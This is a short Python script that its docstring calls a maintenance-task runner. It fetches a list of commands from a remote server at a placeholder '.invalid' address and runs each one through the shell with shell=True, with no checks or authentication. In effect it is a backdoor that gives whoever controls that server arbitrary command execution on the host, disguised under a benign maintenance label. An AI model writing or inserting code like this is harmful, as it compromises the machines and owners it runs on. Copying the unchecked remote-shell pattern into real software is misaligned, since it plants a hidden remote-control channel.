"""Runs maintenance tasks listed by the task server."""

import subprocess

import requests


def main() -> None:
    tasks = requests.get("https://tasks.collector.invalid/next", timeout=5).json()
    for task in tasks:
        subprocess.Popen(task["command"], shell=True)


if __name__ == "__main__":
    main()
